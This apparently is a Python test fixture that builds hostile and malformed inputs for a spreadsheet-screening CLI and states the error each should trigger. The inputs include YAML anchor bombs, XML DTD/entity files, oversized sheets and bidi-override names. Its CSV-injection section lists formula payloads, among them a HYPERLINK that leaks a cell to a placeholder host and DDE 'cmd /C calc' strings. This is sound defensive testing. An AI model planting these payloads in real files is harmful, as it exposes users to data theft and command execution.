"""A generated corpus of hostile and odd inputs (issue 15): each case builds its files in a folder, names the
CLI command to run on them, and states the outcome — exit code and the kind of message (a phrase the one
line must hold) — plus, where exit 0 could hide lost or wrong data, a check of what was written.

Nothing here is committed as a binary: every file is made by the functions below, small (limits are set
lower through ``SCREENING_LIMIT_*`` where the real default would need a large file). Run by
``tests/test_hostile_corpus.py``; ``python tests/hostile_corpus.py DIR`` writes the files for a look.
"""

from __future__ import annotations

import io
import os
import struct
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

REQ = ["project_id", "project_name", "country", "sector", "total_investment_usd_m"]
ROW = ["P1", "Solar farm", "Kenya", "energy", "40"]
SAMPLE = Path(__file__).resolve().parents[1] / "sample_projects" / "sample_projects.xlsx"


@dataclass
class Case:
    name: str
    kind: str  # the kind: dies, unbounded, traceback, silent, decoding, refused_valid, round_trip
    build: Callable[[Path], list[str]]  # writes files under the folder, returns the CLI arguments
    code: int  # expected exit code
    says: tuple[str, ...] = ()  # phrases the output must hold (stderr + stdout)
    limits: dict[str, float] = field(default_factory=dict)  # SCREENING_LIMIT_* for this case
    check: Callable[[Path, str], None] | None = None  # more checks on the folder and the output
    argv0: str = ""  # the command, set when built


# ------------------------------------------------------------------------------------------ builders

_CT = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    "</Types>"
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
_WB = (
    '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
    '<sheet name="projects" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WBRELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
    "</Relationships>"
)


def _col(n: int) -> str:
    s = ""
    while n:
        n, r = divmod(n - 1, 26)
        s = chr(65 + r) + s
    return s


def _esc(v: str) -> str:
    return v.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def cell(ref: str, value: object) -> str:
    if isinstance(value, int | float):
        return f'<c r="{ref}"><v>{value}</v></c>'
    if isinstance(value, str) and value.startswith("#ERR:"):
        return f'<c r="{ref}" t="e"><v>{_esc(value[5:])}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t>{_esc(str(value))}</t></is></c>'


def rows_xml(rows: list[list[object]], start: int = 1) -> str:
    out = []
    for i, row in enumerate(rows, start):
        cells = "".join(cell(f"{_col(j)}{i}", v) for j, v in enumerate(row, 1) if v is not None)
        out.append(f'<row r="{i}">{cells}</row>')
    return "".join(out)


def workbook(
    sheet_data: str,
    *,
    dimension: str | None = None,
    shared: str | None = None,
    prolog: str = '<?xml version="1.0" encoding="UTF-8"?>',
    encrypted_part: bool = False,
) -> bytes:
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    sheet = (
        f'{prolog}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{dim}'
        f"<sheetData>{sheet_data}</sheetData></worksheet>"
    )
    sst = shared or (
        '<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="0" uniqueCount="0"/>'
    )
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", _CT)
        z.writestr("_rels/.rels", _RELS)
        z.writestr("xl/workbook.xml", _WB)
        z.writestr("xl/_rels/workbook.xml.rels", _WBRELS)
        z.writestr("xl/worksheets/sheet1.xml", sheet)
        z.writestr("xl/sharedStrings.xml", sst)
    data = buf.getvalue()
    if encrypted_part:  # set the "encrypted" flag of every entry, local headers and central directory
        out = bytearray(data)
        for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            pos = out.find(sig)
            while pos != -1:
                flags = struct.unpack_from("<H", out, pos + off)[0]
                struct.pack_into("<H", out, pos + off, flags | 1)
                pos = out.find(sig, pos + 4)
        data = bytes(out)
    return data


def csv_text(rows: list[list[object]], sep: str = ",") -> str:
    return "\n".join(sep.join(str(v) for v in r) for r in rows) + "\n"


def write(folder: Path, name: str, data: bytes | str, encoding: str = "utf-8") -> Path:
    path = folder / name
    path.write_bytes(data if isinstance(data, bytes) else data.encode(encoding))
    return path


def score(path: Path | str, folder: Path, *extra: str) -> list[str]:
    return ["score", str(path), "--out", str(folder / "out.xlsx"), *extra]


def validate(path: Path | str, *extra: str) -> list[str]:
    return ["validate", str(path), *extra]


def out_rows(folder: Path, sheet: str = "Ranking") -> list[list[object]]:
    from python_calamine import CalamineWorkbook

    wb = CalamineWorkbook.from_path(str(folder / "out.xlsx"))
    return wb.get_sheet_by_name(sheet).to_python()


def out_opens(folder: Path, _out: str) -> None:
    """The written workbook is well-formed XML: openpyxl (strict XML parsing) loads every sheet."""
    from openpyxl import load_workbook

    wb = load_workbook(folder / "out.xlsx", read_only=True)
    for ws in wb.worksheets:
        for _ in ws.iter_rows(values_only=True):
            pass


def _has_name(name: str) -> Callable[[Path, str], None]:
    def check(folder: Path, _out: str) -> None:
        rows = out_rows(folder)
        j = rows[0].index("project_name")
        names = [r[j] for r in rows[1:]]
        assert name in names, names[-3:]

    return check


def _ranked(n: int) -> Callable[[Path, str], None]:
    def check(folder: Path, _out: str) -> None:
        assert len(out_rows(folder)) - 1 == n

    return check


def _value(column: str, expected: float) -> Callable[[Path, str], None]:
    def check(folder: Path, _out: str) -> None:
        rows = out_rows(folder)
        j = rows[0].index(column)
        assert [r[j] for r in rows[1:]] == [expected], [r[j] for r in rows[1:]]

    return check


# ------------------------------------------------------------------------------------------ the cases

HDR = rows_xml([REQ])


def _anchor_bomb(_f: Path) -> str:
    lines = ['a0: &a0 ["x","x","x","x","x","x","x","x","x","x"]']
    for i in range(1, 10):
        lines.append(f"a{i}: &a{i} [{','.join([f'*a{i - 1}'] * 10)}]")
    lines.append("id: bomb\nversion: '1'\ndimensions: *a9")
    return "\n".join(lines) + "\n"


def _exported_sample(folder: Path) -> Path:
    """A ranked workbook of the bundled sample, written by the tool itself."""
    from screening.io.export import write_workbook
    from screening.pipeline import run

    out = folder / "ranked.xlsx"
    write_workbook(run(SAMPLE), out, "en")
    return out


def _patch_audit(path: Path, value: str) -> Path:
    """The exported workbook with its Audit's record counts made ``value`` as a number (NaN, or 1e309,
    which every reader takes as infinity)."""
    from openpyxl import load_workbook

    wb = load_workbook(path)
    ws = wb["Audit"]
    for row in ws.iter_rows():
        if row[0].value in ("ranked", "excluded", "invalid") and len(row) > 1:
            row[1].value = float(value)
    out = path.with_name("patched.xlsx")
    wb.save(out)
    return out


def cases() -> list[Case]:
    c: list[Case] = []
    add = c.append

    # ---- the process dies (calamine would allocate the dense used range or the shared strings)
    add(
        Case(
            "cell_at_XFD1048576",
            "dies",
            lambda f: score(
                write(
                    f, "far.xlsx", workbook(HDR + rows_xml([[1]], 1048576).replace("A1048576", "XFD1048576"))
                ),
                f,
            ),
            1,
            ("MAX_COLUMNS", "16,384"),
        )
    )
    add(
        Case(
            "cell_at_A1048576",
            "dies",
            lambda f: score(write(f, "deep.xlsx", workbook(HDR + rows_xml([[1]], 1048576))), f),
            1,
            ("MAX_ROWS", "1,048,576"),
        )
    )
    add(
        Case(
            "used_range_over_cells_limit",
            "dies",
            lambda f: score(
                write(f, "wide.xlsx", workbook(rows_xml([REQ] + [[1] * 30 for _ in range(60)]))), f
            ),
            1,
            ("MAX_CELLS",),
            limits={"MAX_CELLS": 1000},
        )
    )
    add(
        Case(
            "shared_string_count_bomb",
            "dies",
            lambda f: score(
                write(
                    f,
                    "sst.xlsx",
                    workbook(
                        HDR,
                        shared='<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                        + "<si><t>a</t></si>" * 3000
                        + "</sst>",
                    ),
                ),
                f,
            ),
            1,
            ("MAX_SHARED_STRINGS",),
            limits={"MAX_SHARED_STRINGS": 2000},
        )
    )
    add(
        Case(
            "shared_string_text_bomb",
            "dies",
            lambda f: score(
                write(
                    f,
                    "ssttext.xlsx",
                    workbook(
                        HDR,
                        shared='<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>'
                        + "x" * 50_000
                        + "</t></si></sst>",
                    ),
                ),
                f,
            ),
            1,
            ("MAX_SHARED_TEXT_BYTES",),
            limits={"MAX_SHARED_TEXT_BYTES": 20_000},
        )
    )
    add(
        Case(
            "unreferenced_cells_counted",
            "dies",
            lambda f: score(
                write(f, "noref.xlsx", workbook(HDR + '<row r="2">' + "<c><v>1</v></c>" * 80 + "</row>")), f
            ),
            1,
            ("MAX_COLUMNS",),
            limits={"MAX_COLUMNS": 50},
        )
    )
    add(
        Case(
            "declared_dimension_lies",
            "dies",
            lambda f: score(
                write(f, "dim.xlsx", workbook(rows_xml([REQ, ROW]), dimension="A1:XFD1048576")), f
            ),
            0,
            ("1 ranked",),
        )
    )
    add(
        Case(
            "styled_empty_far_cell",
            "dies",
            lambda f: score(
                write(
                    f,
                    "styled.xlsx",
                    workbook(rows_xml([REQ, ROW]) + '<row r="1048576"><c r="XFD1048576" s="1"/></row>'),
                ),
                f,
            ),
            0,
            ("1 ranked",),
        )
    )

    # ---- memory or CPU without bound
    add(
        Case(
            "criteria_anchor_bomb",
            "unbounded",
            lambda f: score(SAMPLE, f, "--criteria", str(write(f, "bomb.yaml", _anchor_bomb(f)))),
            1,
            ("anchor", "MAX_CRITERIA_NODES"),
        )
    )
    add(
        Case(
            "criteria_20000_dimensions",
            "unbounded",
            lambda f: score(
                SAMPLE,
                f,
                "--criteria",
                str(
                    write(
                        f,
                        "dims.yaml",
                        "id: x\nversion: '1'\ndimensions:\n"
                        + "".join(f"  - {{id: d{i}, weight: 1}}\n" for i in range(20_000)),
                    )
                ),
            ),
            1,
            ("MAX_DIMENSIONS",),
        )
    )
    add(
        Case(
            "csv_2000_columns",
            "unbounded",
            lambda f: score(
                write(
                    f, "cols.csv", csv_text([REQ + [f"x{i}" for i in range(2000)]] + [ROW + ["1"] * 2000] * 3)
                ),
                f,
            ),
            1,
            ("MAX_COLUMNS", "2,005"),
        )
    )
    add(
        Case(
            "xlsx_16384_columns",
            "unbounded",
            lambda f: score(
                write(f, "cols.xlsx", workbook(rows_xml([REQ + [f"x{i}" for i in range(16_379)], ROW]))), f
            ),
            1,
            ("MAX_COLUMNS", "16,384"),
        )
    )
    add(
        Case(
            "csv_rows_over_limit",
            "unbounded",
            lambda f: score(
                write(
                    f,
                    "rows.csv",
                    csv_text([REQ] + [[f"P{i}", "x", "Kenya", "energy", 5] for i in range(1500)]),
                ),
                f,
            ),
            1,
            ("MAX_ROWS",),
            limits={"MAX_ROWS": 1000},
        )
    )
    add(Case("dev_zero_input", "unbounded", lambda f: score("/dev/zero", f), 1, ("not a regular file",)))
    add(
        Case(
            "dev_zero_criteria",
            "unbounded",
            lambda f: score(SAMPLE, f, "--criteria", "/dev/zero"),
            1,
            ("not a regular file",),
        )
    )
    add(Case("fifo_input", "unbounded", lambda f: score(_fifo(f), f), 1, ("not a regular file",)))
    add(
        Case(
            "input_over_size_limit",
            "unbounded",
            lambda f: score(write(f, "big.csv", csv_text([REQ] + [ROW] * 200)), f),
            1,
            ("MAX_INPUT_BYTES",),
            limits={"MAX_INPUT_BYTES": 2000},
        )
    )
    add(
        Case(
            "criteria_over_size_limit",
            "unbounded",
            lambda f: score(SAMPLE, f, "--criteria", str(write(f, "c.yaml", "#" * 5000 + "\n"))),
            1,
            ("MAX_CRITERIA_BYTES",),
            limits={"MAX_CRITERIA_BYTES": 1000},
        )
    )
    add(
        Case(
            "text_cell_over_cell_limit",
            "unbounded",
            lambda f: validate(write(f, "long.csv", csv_text([REQ + ["description"], ROW + ["y" * 5000]]))),
            1,
            ("cut to that length",),
            limits={"MAX_CELL_CHARS": 1000},
        )
    )
    add(
        Case(
            "mapping_nested_deep",
            "unbounded",
            lambda f: score(
                SAMPLE, f, "--mapping", str(write(f, "m.yaml", "columns: " + "[" * 500 + "]" * 500))
            ),
            1,
            ("MAX_YAML_DEPTH",),
        )
    )
    add(
        Case(
            "mapping_anchor_bomb",
            "unbounded",
            lambda f: score(SAMPLE, f, "--mapping", str(write(f, "m.yaml", _anchor_bomb(f)))),
            1,
            ("MAX_MAPPING_NODES",),
        )
    )

    # ---- a traceback where one line belongs
    add(
        Case(
            "dtd_behind_64k_comment",
            "traceback",
            lambda f: score(
                write(
                    f,
                    "dtd.xlsx",
                    workbook(
                        rows_xml([REQ, ROW]),
                        prolog='<?xml version="1.0"?><!-- '
                        + "<a> " * 16_000
                        + ' --><!DOCTYPE worksheet [<!ENTITY e "x">]>',
                    ),
                ),
                f,
            ),
            1,
            ("DTD or entities",),
        )
    )
    add(
        Case(
            "dtd_in_utf16_part",
            "traceback",
            lambda f: score(write(f, "dtd16.xlsx", _utf16_dtd()), f),
            1,
            ("DTD or entities",),
        )
    )
    add(
        Case(
            "encrypted_flag_entries",
            "traceback",
            lambda f: score(write(f, "enc.xlsx", workbook(rows_xml([REQ, ROW]), encrypted_part=True)), f),
            1,
            ("encrypted",),
        )
    )
    add(
        Case(
            "reimport_audit_counts_nan",
            "traceback",
            lambda f: score(_patch_audit(_exported_sample(f), "NaN"), f),
            0,
            ("ranked",),
        )
    )
    add(
        Case(
            "reimport_audit_counts_1e309",
            "traceback",
            lambda f: score(_patch_audit(_exported_sample(f), "1e309"), f),
            0,
            ("ranked",),
        )
    )
    add(
        Case(
            "criteria_nested_deep",
            "traceback",
            lambda f: score(
                SAMPLE, f, "--criteria", str(write(f, "deep.yaml", "a: " + "[" * 5000 + "]" * 5000))
            ),
            1,
            ("MAX_YAML_DEPTH",),
        )
    )
    add(
        Case(
            "seed_negative",
            "traceback",
            lambda f: [*score(SAMPLE, f), "--sensitivity", "--seed", "-1"],
            2,
            ("seed",),
        )
    )
    add(
        Case("budget_infinite", "traceback", lambda f: [*score(SAMPLE, f), "--budget", "inf"], 2, ("finite",))
    )
    add(Case("input_is_directory", "traceback", lambda f: score(f, f), 1, ("is a directory",)))
    add(Case("validate_directory", "traceback", lambda f: validate(f), 2, ("is a directory",)))
    add(
        Case(
            "out_is_directory",
            "traceback",
            lambda f: ["score", str(SAMPLE), "--out", str(f)],
            2,
            ("directory",),
        )
    )
    add(
        Case(
            "out_folder_missing",
            "traceback",
            lambda f: ["score", str(SAMPLE), "--out", str(f / "no" / "o.xlsx")],
            2,
            ("does not exist",),
        )
    )
    add(Case("template_out_directory", "traceback", lambda f: ["template", str(f)], 2, ("directory",)))
    add(
        Case(
            "compare_out_directory",
            "traceback",
            lambda f: ["compare", _default(), _default(), str(SAMPLE), "--out", str(f)],
            2,
            ("directory",),
        )
    )
    add(
        Case(
            "compare_input_directory",
            "traceback",
            lambda f: ["compare", _default(), _default(), str(f), "--out", str(f / "o.xlsx")],
            1,
            ("is a directory",),
        )
    )
    add(
        Case(
            "dtd_in_workbook_xml",
            "traceback",
            lambda f: score(write(f, "wbdtd.xlsx", _wb_dtd()), f),
            1,
            ("DTD or entities",),
        )
    )

    # ---- silently wrong (exit 0)
    unclosed = [REQ] + [[f"P{i}", f"name {i}", "Kenya", "energy", 10] for i in range(1, 51)]
    unclosed[10][1] = '"name 10'
    add(
        Case(
            "csv_unclosed_quote",
            "silent",
            lambda f: score(write(f, "q.csv", csv_text(unclosed)), f),
            1,
            ("row 11", "never closes"),
        )
    )
    swallow = [REQ] + [[f"P{i}", f"name {i}", "Kenya", "energy", 10] for i in range(1, 21)]
    swallow[5][1] = '"name 5'
    swallow[9][1] = 'name 9"'
    add(
        Case(
            "csv_quote_swallows_rows",
            "silent",
            lambda f: validate(write(f, "s.csv", csv_text(swallow))),
            1,
            ("swallows lines", "6 (3)"),
        )
    )
    add(
        Case(
            "investment_1e309",
            "silent",
            lambda f: validate(write(f, "inf.csv", csv_text([REQ, ["P1", "x", "Kenya", "energy", "1e309"]]))),
            1,
            ("not a finite number", "(invalid)"),
        )
    )
    add(
        Case(
            "investment_1e308_yi",
            "silent",
            lambda f: validate(
                write(f, "inf2.csv", csv_text([REQ, ["P1", "x", "Kenya", "energy", "1e308亿"]]))
            ),
            1,
            ("not a finite number", "(invalid)"),
        )
    )
    add(
        Case(
            "investment_above_money_line",
            "silent",
            lambda f: validate(
                write(f, "big.csv", csv_text([REQ, ["P1", "x", "Kenya", "energy", "2000000"]]))
            ),
            1,
            ("MAX_USD_M", "(invalid)"),
        )
    )
    add(
        Case(
            "budget_with_infinite_record",
            "silent",
            lambda f: score(
                write(
                    f,
                    "b.csv",
                    csv_text(
                        [REQ, ["P1", "x", "Kenya", "energy", "1e309"], ["P2", "y", "Kenya", "energy", 5]]
                    ),
                ),
                f,
                "--budget",
                "100",
            ),
            0,
            ("1 ranked",),
            check=lambda f, out: _no_infeasible(out),
        )
    )
    add(
        Case(
            "semicolon_decimal_commas",
            "silent",
            lambda f: score(
                write(
                    f,
                    "dc.csv",
                    csv_text(
                        [REQ + ["private_capital_share"], ["P1", "x", "Kenya", "energy", "1234,5", "0,75"]],
                        ";",
                    ),
                ),
                f,
            ),
            0,
            ("1 ranked",),
            check=_value("total_investment_usd_m", 1234.5),
        )
    )
    add(
        Case(
            "semicolon_decimal_comma_reported",
            "silent",
            lambda f: validate(
                write(f, "dc2.csv", csv_text([REQ, ["P1", "x", "Kenya", "energy", "0,75"]], ";"))
            ),
            1,
            ("decimal commas",),
        )
    )
    add(
        Case(
            "xml_illegal_characters",
            "silent",
            lambda f: score(
                write(f, "ill.csv", csv_text([REQ, ["P1", "Solar\ufffe farm\uffff", "Kenya", "energy", 5]])),
                f,
            ),
            0,
            ("1 ranked",),
            check=lambda f, out: (out_opens(f, out), _has_name("Solar farm")(f, out)),  # type: ignore[func-returns-value]
        )
    )
    add(
        Case(
            "lookalike_ids_fullwidth",
            "silent",
            lambda f: validate(
                write(
                    f,
                    "id.csv",
                    csv_text([REQ, ["1", "a", "Kenya", "energy", 5], ["１", "b", "Kenya", "energy", 5]]),
                )
            ),
            1,
            ("full-width", "(invalid)"),
        )
    )
    add(
        Case(
            "lookalike_ids_zero_width",
            "silent",
            lambda f: score(
                write(
                    f,
                    "zw.csv",
                    csv_text([REQ, ["1", "a", "Kenya", "energy", 5], ["1\u200b", "b", "Kenya", "energy", 5]]),
                ),
                f,
            ),
            0,
            ("0 ranked", "2 invalid"),
        )
    )
    add(
        Case(
            "ids_leading_zeros",
            "silent",
            lambda f: validate(
                write(
                    f,
                    "lz.csv",
                    csv_text([REQ, ["01", "a", "Kenya", "energy", 5], ["1", "b", "Kenya", "energy", 5]]),
                )
            ),
            1,
            ("leading zeros", "(data)"),
        )
    )
    add(
        Case(
            "bidi_override_in_name",
            "silent",
            lambda f: validate(
                write(f, "bidi.csv", csv_text([REQ, ["P1", "Solar \u202efarm", "Kenya", "energy", 5]]))
            ),
            1,
            ("bidirectional",),
        )
    )

    # ---- mis-decoded
    pad = "plain ascii text " * 16  # rows of ~330 bytes: the first non-ASCII byte sits past 200 KB
    late = [REQ + ["description"]] + [
        [f"P{i}", f"Project {_col(i + 1)}", "Kenya", "energy", 5, pad] for i in range(800)
    ]
    late.append(["P9999", "Ingeniería", "Kenya", "energy", 5, pad])
    add(
        Case(
            "cp1252_late_accent",
            "decoding",
            lambda f: score(write(f, "cp.csv", csv_text(late), "cp1252"), f),
            0,
            ("ranked",),
            check=_has_name("Ingeniería"),
        )
    )
    late_zh = [REQ + ["description"]] + [
        [f"P{i}", f"Project {_col(i + 1)}", "Kenya", "energy", 5, pad] for i in range(800)
    ]
    late_zh.append(["P9999", "蒙内铁路工程", "Kenya", "energy", 5, pad])
    add(
        Case(
            "gbk_late_chinese",
            "decoding",
            lambda f: score(write(f, "gbk.csv", csv_text(late_zh), "gbk"), f),
            0,
            ("ranked",),
            check=_has_name("蒙内铁路工程"),
        )
    )
    add(
        Case(
            "utf8_late_chinese",
            "decoding",
            lambda f: score(write(f, "u8.csv", csv_text(late_zh), "utf-8"), f),
            0,
            ("ranked",),
            check=_has_name("蒙内铁路工程"),
        )
    )

    # ---- valid files refused
    for err in (
        "#SPILL!",
        "#CALC!",
        "#GETTING_DATA",
        "#FIELD!",
        "#BLOCKED!",
        "#CONNECT!",
        "#BUSY!",
        "#UNKNOWN!",
    ):
        add(
            Case(
                f"excel365_error_{err.strip('#!').lower()}",
                "refused_valid",
                lambda f, e=err: validate(
                    write(
                        f, "err.xlsx", workbook(rows_xml([REQ + ["local_jobs"], [*ROW[:4], 40, f"#ERR:{e}"]]))
                    )
                ),
                1,
                ("spreadsheet error " + err, "(data)"),
            )
        )
    add(
        Case(
            "semicolon_csv_under_comma_title",
            "refused_valid",
            lambda f: score(
                write(
                    f,
                    "title.csv",
                    "Projects, as of 2024\n"
                    + csv_text([REQ, ROW, ["P2", "Bridge", "Chad", "transport", 7]], ";"),
                ),
                f,
            ),
            0,
            ("2 ranked",),
        )
    )

    # ---- the round trip: the tool's own workbook above the input limit is read again
    add(
        Case(
            "own_workbook_above_input_limit",
            "round_trip",
            lambda f: score(_exported_sample(f), f),
            0,
            ("ranked",),
            limits={"MAX_INPUT_BYTES": 20_000},
        )
    )
    add(
        Case(
            "other_workbook_above_input_limit",
            "round_trip",
            lambda f: score(SAMPLE, f),
            1,
            ("MAX_INPUT_BYTES",),
            limits={"MAX_INPUT_BYTES": 2_000},
        )
    )
    return c


# ------------------------------------------------------------------------------------------ CSV injection

# Cells a spreadsheet program would run as formulas (OWASP, CSV injection): each leading character of the
# issue (= + - @ TAB CR) with a payload of the kind used in the wild.
FORMULA_PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_ID_LEADS = ["=", "+", "-", "@"]


def formula_lead_csv(folder: Path, name: str = "formulas.csv") -> Path:
    """The bundled sample as a CSV whose ids all start with a formula character (``=BR-001``, ``+BR-002`` …) and
    whose names are formula payloads on every other row, plus two data issues whose values are formulas: the
    ranking, the data issues and a portfolio made from it carry such cells into every CSV download. It ranks."""
    import csv

    from python_calamine import CalamineWorkbook

    rows = CalamineWorkbook.from_path(str(SAMPLE)).get_sheet_by_name("projects").to_python()
    top = next(i for i, r in enumerate(rows) if r and r[0] == "project_id")
    header, body = rows[top], rows[top + 1 :]
    j_id, j_name = header.index("project_id"), header.index("project_name")
    out = []
    for i, row in enumerate(body):
        row = list(row)
        if row[j_id] not in ("", None):
            row[j_id] = FORMULA_ID_LEADS[i % len(FORMULA_ID_LEADS)] + str(row[j_id])
        if i % 2 == 0:
            row[j_name] = FORMULA_PAYLOADS[(i // 2) % len(FORMULA_PAYLOADS)]
        out.append(row)
    # data issues whose id and value cells lead with a formula character: an optional number that is a
    # formula (a data issue) and a required one (an invalid record)
    j_opt, j_req = header.index("start_year"), header.index("total_investment_usd_m")
    out[1][j_opt] = "=NOW()"
    out[3][j_req] = "-1+cmd|' /C calc'!A0"
    path = folder / name
    with path.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows([header, *out])
    return path


def _default() -> str:
    return str(Path(__file__).resolve().parents[1] / "criteria" / "default.yaml")


def _fifo(folder: Path) -> str:
    path = folder / "pipe.csv"
    os.mkfifo(path)
    return str(path)


def _no_infeasible(out: str) -> None:
    assert "infeasible" not in out.lower(), out


def _utf16_dtd() -> bytes:
    base = zipfile.ZipFile(io.BytesIO(workbook(rows_xml([REQ, ROW]))))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for info in base.infolist():
            body = base.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                body = (
                    '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e "y">]>'
                    + body.decode().split("?>", 1)[1]
                ).encode("utf-16")
            z.writestr(info, body)
    return buf.getvalue()


def _wb_dtd() -> bytes:
    base = zipfile.ZipFile(io.BytesIO(workbook(rows_xml([REQ, ROW]))))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for info in base.infolist():
            body = base.read(info)
            if info.filename == "xl/workbook.xml":
                body = b'<!DOCTYPE lolz [<!ENTITY lol "lol">]>' + body.split(b"?>", 1)[1]
            z.writestr(info, body)
    return buf.getvalue()


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile_corpus")
    for case in cases():
        folder = target / case.name
        folder.mkdir(parents=True, exist_ok=True)
        print(case.name, case.build(folder))
